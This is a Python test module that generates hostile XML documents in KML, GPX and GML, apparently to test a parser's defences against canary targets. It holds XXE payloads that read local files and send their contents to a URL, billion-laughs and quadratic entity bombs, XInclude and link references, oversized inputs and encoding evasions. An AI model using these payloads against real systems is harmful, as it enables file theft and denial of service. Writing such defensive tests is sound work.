"""XML that opens other files, asks other hosts, or swells, in each of the formats that are XML."""

from __future__ import annotations

import codecs
from collections.abc import Callable, Iterator

from tests.factories.canary_places import Canary
from tests.factories.hostile_file import Hostile, holding

KML = '<kml xmlns="http://www.opengis.net/kml/2.2"{more}><Document>{body}</Document></kml>'
GPX = '<gpx xmlns="http://www.topografix.com/GPX/1/1" version="1.1" creator="x"{more}>{body}</gpx>'
GML = (
    '<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:a="urn:a"'
    ' xmlns:gml="http://www.opengis.net/gml/3.2"{more}>{body}</wfs:FeatureCollection>'
)
KML_PLACE = (
    "<Placemark><name>{name}</name><Point><coordinates>16.2,58.9</coordinates></Point></Placemark>"
)
GPX_PLACE = '<wpt lat="58.9" lon="16.2"><name>{name}</name></wpt>'
GML_PLACE = (
    '<wfs:member><a:b gml:id="b.1"><a:name>{name}</a:name><a:geom>'
    '<gml:Point gml:id="p" srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>58.9 16.2</gml:pos>'
    "</gml:Point></a:geom></a:b></wfs:member>"
)
FORMS = {"kml": (KML, KML_PLACE), "gpx": (GPX, GPX_PLACE), "gml": (GML, GML_PLACE)}


def document(form: str, *, name: str = "a", more: str = "", body: str = "") -> str:
    """A document of the format with one place, whose name is put in as it stands."""
    whole, place = FORMS[form]
    return whole.format(more=more, body=place.format(name=name) + body)


def list_xml(canary: Canary) -> list[Hostile]:
    """All of them, aimed at the canary."""
    return [
        *(each for form in FORMS for each in _with_doctype(form, canary)),
        *(each for form in FORMS for each in _that_refer(form, canary)),
        *_swollen(),
        *_in_strange_letters(canary),
    ]


def _with_doctype(form: str, canary: Canary) -> Iterator[Hostile]:
    file, url = canary.file.as_uri(), canary.url
    root = {"kml": "kml", "gpx": "gpx", "gml": "wfs:FeatureCollection"}[form]
    tells = f"<!ENTITY % e \"<!ENTITY &#37; t SYSTEM '{url}?%f;'>\">"
    internal = {
        "external entity, file": (f'<!ENTITY x SYSTEM "{file}">', "&x;"),
        "external entity, http": (f'<!ENTITY x SYSTEM "{url}">', "&x;"),
        "external entity, public": (f'<!ENTITY x PUBLIC "-//W3C" "{url}">', "&x;"),
        "parameter entity, file": (f'<!ENTITY % x SYSTEM "{file}"> %x;', "a"),
        "parameter entity, http": (f'<!ENTITY % x SYSTEM "{url}"> %x;', "a"),
        "error that tells": (f"<!ENTITY % f SYSTEM '{file}'>{tells}%e;%t;", "a"),
        "internal entity": ('<!ENTITY x "b">', "&x;"),
        "attribute by default": (f'<!ATTLIST {root} xml:base CDATA "{url}">', "a"),
        "notation": (f'<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{file}" NDATA n>', "a"),
        "a billion laughs": (_laughs(9), "&l9;"),
        "quadratic": (f'<!ENTITY x "{"b" * 50_000}">', "&x;" * 50_000),
        "entity of itself": ('<!ENTITY x "&y;"><!ENTITY y "&x;">', "&x;"),
    }
    for name, (declared, used) in internal.items():
        text = f"<!DOCTYPE {root} [{declared}]>" + document(form, name=used)
        yield holding(f"{form}: {name}", text)
    plain = document(form)
    for name, head in {
        "external DTD, file": f'<!DOCTYPE {root} SYSTEM "{file}">',
        "external DTD, http": f'<!DOCTYPE {root} SYSTEM "{url}">',
        "external DTD, public": f'<!DOCTYPE {root} PUBLIC "-//W3C//DTD" "{url}">',
        "DTD behind a comment": f'<!-- <kml> --><!DOCTYPE {root} SYSTEM "{url}">',
        "DTD behind an instruction": f'<?a b?>\n\n<!DOCTYPE {root} SYSTEM "{url}">',
        "not standing alone": f'<?xml version="1.0" standalone="no"?><!DOCTYPE {root} SYSTEM "{url}">',
    }.items():
        yield holding(f"{form}: {name}", head + plain)


def _laughs(depth: int) -> str:
    levels = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth + 1)]
    return '<!ENTITY l0 "ha">' + "".join(levels)


def _that_refer(form: str, canary: Canary) -> Iterator[Hostile]:
    """What points elsewhere without a DTD: nothing of it is followed, so the rest may pass."""
    file, url = canary.file.as_uri(), canary.url
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for scheme, target in (("file", file), ("http", url)):
        for way in ("text", "xml"):
            inside = f'<xi:include {include} href="{target}" parse="{way}"/>'
            text = document(form, name=inside)
            yield holding(f"{form}: XInclude of {scheme} as {way}", text, may_pass=True)
        style = f'<?xml-stylesheet type="text/xsl" href="{target}"?>' + document(form)
        yield holding(f"{form}: stylesheet, {scheme}", style, may_pass=True)
        schema = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a '
        for name, more in (("schema", f'{schema}{target}"'), ("base", f' xml:base="{target}"')):
            text = document(form, more=more)
            yield holding(f"{form}: {name}, {scheme}", text, may_pass=True)
        for number, body in enumerate(_links(form, target)):
            text = document(form, body=body)
            yield holding(f"{form}: link {number}, {scheme}", text, may_pass=True)


def _links(form: str, target: str) -> Iterator[str]:
    if form == "kml":
        yield f"<NetworkLink><Link><href>{target}</href></Link></NetworkLink>"
        yield f"<GroundOverlay><Icon><href>{target}</href></Icon></GroundOverlay>"
        yield f"<Placemark><styleUrl>{target}#a</styleUrl></Placemark>"
        yield f'<Schema id="s" parent="{target}"/>'
    elif form == "gpx":
        yield f'<wpt lat="58.9" lon="16.2"><link href="{target}"/></wpt>'
        yield f"<metadata><link href='{target}'/></metadata>"
    else:
        xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
        yield f'<wfs:member {xlink} xlink:href="{target}"/>'
        yield GML_PLACE.format(name="b").replace("urn:ogc:def:crs:EPSG::4326", target)
        yield f'<wfs:member><a:b><a:geom {xlink} xlink:href="{target}"/></a:b></wfs:member>'
        yield f'<wfs:additionalObjects {xlink} xlink:href="{target}"/>'


def _swollen() -> Iterator[Hostile]:
    for form in FORMS:
        yield from _large(form)
        yield Hostile(f"{form}: 200,000 deep", lambda form=form: _deep(form, closed=True))  # type: ignore[misc]
        yield Hostile(
            f"{form}: 200,000 deep, not closed", lambda form=form: _deep(form, closed=False)
        )  # type: ignore[misc]
        cut = document(form).encode()
        yield holding(f"{form}: cut off", cut[: len(cut) // 2])


def _deep(form: str, *, closed: bool) -> bytes:
    body = "<b>" * 200_000 + "</b>" * 200_000 * closed
    return document(form, body=body).encode()


def _large(form: str) -> Iterator[Hostile]:
    """Fifty megabytes in one place, or very many of something; made when they are needed."""
    size = 50_000_000

    def attributes() -> str:
        return document(form, more="".join(f' b{number}="c"' for number in range(200_000)))

    def namespaces() -> str:
        names = (f' xmlns:b{number}="urn:{number}"' for number in range(100_000))
        return document(form, more="".join(names))

    makers: dict[str, tuple[Callable[[], str], bool]] = {
        "50 MB attribute": (lambda: document(form, more=f' b="{"b" * size}"'), False),
        "50 MB attribute, never closed": (lambda: f'<kml b="{"b" * size}', False),
        "50 MB name": (lambda: document(form, name="b" * size), True),
        "50 MB comment": (lambda: f"<!--{'b' * size}-->" + document(form), True),
        "50 MB of blanks": (lambda: " " * size + document(form), True),
        "50 MB element": (lambda: f"<{'b' * size}/>", False),
        "200,000 attributes": (attributes, False),
        "100,000 namespaces": (namespaces, True),
        "half a million elements": (lambda: document(form, body="<b/>" * 500_000), True),
    }
    for name, (make, may_pass) in makers.items():
        yield Hostile(f"{form}: {name}", lambda make=make: make().encode(), may_pass)  # type: ignore[misc]


def _in_strange_letters(canary: Canary) -> Iterator[Hostile]:
    evil = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{canary.url}">]>' + document("kml", name="&x;")
    for name in ("utf-7", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "cp1140"):
        for declared in dict.fromkeys((name, "utf-8", "utf-16", "iso-8859-1")):
            text = f'<?xml version="1.0" encoding="{declared}"?>{evil}'
            yield holding(f"{name}, declared as {declared}", text.encode(name))
        yield holding(f"{name}, not declared", evil.encode(name))
    for mark in (codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF32_LE):
        yield holding(f"mark {mark.hex()} before UTF-8", mark + evil.encode())
    for name in (
        "utf7",
        "base64",
        "rot13",
        "zip",
        "bz2",
        "unicode_escape",
        "idna",
        "../etc/passwd",
    ):
        text = f'<?xml version="1.0" encoding="{name}"?>{evil}'
        yield holding(f"encoding {name}", text.encode())
    yield holding("NUL between the letters", evil.replace("<", "<\0").encode())
    yield holding("overlong UTF-8", evil.encode().replace(b"<!D", b"\xc0\xbc!D"))
    yield holding("XML 1.1", b'<?xml version="1.1"?>' + document("kml", name="&#1;").encode())
    yield holding("two roots", (document("kml") + document("kml")).encode())
    yield holding("a second declaration", (document("kml") + "<?xml version='1.0'?>").encode())
    yield holding("an undeclared entity", document("kml", name="&nbsp;").encode())
    yield holding("a sign that is none", document("kml", name="&#0;&#xFFFFFFFF;").encode())
    yield holding("the same attribute twice", document("kml", more=' b="1" b="2"').encode())
